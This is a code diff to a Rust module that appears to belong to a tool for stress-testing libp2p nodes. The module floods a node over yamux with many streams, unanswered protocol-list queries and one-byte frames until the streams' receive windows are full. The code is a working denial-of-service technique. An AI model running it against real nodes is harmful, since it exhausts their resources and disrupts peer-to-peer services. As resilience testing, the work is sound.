@@ -1,4 +1,4 @@
-//! yamux: frames of one byte that fill the windows of many streams, while the node cannot write.
+//! yamux: frames of one byte that fill the windows of many streams, none of which the node reads.
 
 use std::time::Duration;
 
@@ -9,7 +9,7 @@ use tokio::time::timeout;
 
 use super::{LIMITED, source};
 use crate::figures::Unread;
-use crate::libp2p::{self, DATA, IDENTIFY, SYN, frame};
+use crate::libp2p::{self, DATA, SYN, frame};
 use crate::node_under_attack::Start;
 use crate::siege::{Aim, Counts, besiege};
 use crate::{Outcome, Setting};
@@ -17,8 +17,9 @@ use crate::{Outcome, Setting};
 /// The receive window of a new stream (yamux spec, section "Flow Control").
 const WINDOW: usize = 256 << 10;
 
-/// Questions whose answers fill the node's buffers, because nobody reads them.
-const QUESTIONS: usize = 60_000;
+/// Questions for the list of protocols. The answers fill the attacker's window, because it reads nothing, so that the node waits
+/// there and does not read on.
+const QUESTIONS: usize = 4_000;
 
 /// One-byte frames per write.
 const BATCH: usize = 4_096;
@@ -31,8 +32,8 @@ pub(crate) fn frames_64(setting: &Setting) -> Result<Outcome> {
 }
 
 pub(crate) fn frames_256(setting: &Setting) -> Result<Outcome> {
-    // Two of the 256 streams that a peer may open are those of the first step.
-    frames(setting, 254)
+    // As many streams as one peer may open.
+    frames(setting, 256)
 }
 
 fn frames(setting: &Setting, streams: u32) -> Result<Outcome> {
@@ -58,28 +59,23 @@ fn frames(setting: &Setting, streams: u32) -> Result<Outcome> {
     Ok(Outcome::Ran(Box::new(siege.figures)))
 }
 
-/// Blocks the node's writer, opens the streams, and sends one-byte frames over all of them in turn until their windows are full
-/// or the flood is over. Keeps the connection until then.
+/// Opens the streams so that the node does not read them, and sends one-byte frames over all of them in turn until their windows are
+/// full or the flood is over. Keeps the connection until then.
 async fn fill(aim: &Aim, streams: u32) -> Result<()> {
-    let mut node = libp2p::raw_muxer(source(0), aim.tcp).await?;
+    let mut node = libp2p::raw_muxer(source(0), aim).await?;
     let mut send = async |bytes: &[u8]| -> Result<()> {
         timeout(PATIENCE, node.write_all(bytes)).await??;
         timeout(PATIENCE, node.flush()).await??;
-        Counts::add(&aim.counts.sent, bytes.len());
         Ok(())
     };
-    let questions = libp2p::message("ls").repeat(QUESTIONS);
     let header = libp2p::message("/multistream/1.0.0");
-    send(&frame(DATA, SYN, 1, &header)).await?;
-    for part in questions.chunks(16 << 10).take(WINDOW / (16 << 10) - 1) {
-        send(&frame(DATA, 0, 1, part)).await?;
-    }
-    let opening = libp2p::proposal(IDENTIFY);
-    let numbers: Vec<u32> = (1..=streams).map(|n| 2 * n + 1).collect();
+    let questions = libp2p::message("ls").repeat(QUESTIONS);
+    let opening = [header, questions].concat();
+    let numbers: Vec<u32> = (0..streams).map(|n| 2 * n + 1).collect();
     for number in &numbers {
         send(&frame(DATA, SYN, *number, &opening)).await?;
-        Counts::add(&aim.counts.streams, 1);
     }
+    Counts::raise(&aim.counts.streams, numbers.len());
     let frames = numbers
         .iter()
         .flat_map(|number| frame(DATA, 0, *number, &[7]));
@@ -87,13 +83,13 @@ async fn fill(aim: &Aim, streams: u32) -> Result<()> {
     let rounds = WINDOW - opening.len();
     let rounds_per_write = BATCH / numbers.len();
     let many = frames.repeat(rounds_per_write);
-    for _ in 0..rounds / rounds_per_write {
+    for round in 1..=rounds / rounds_per_write {
         if aim.is_over() {
             return Ok(());
         }
         send(&many).await?;
         Counts::add(&aim.counts.tries, rounds_per_write * numbers.len());
-        Counts::add(&aim.counts.unread, rounds_per_write * numbers.len());
+        Counts::raise(&aim.counts.unread, round * rounds_per_write * numbers.len());
     }
     tokio::time::sleep_until(aim.until.into()).await;
     Ok(())
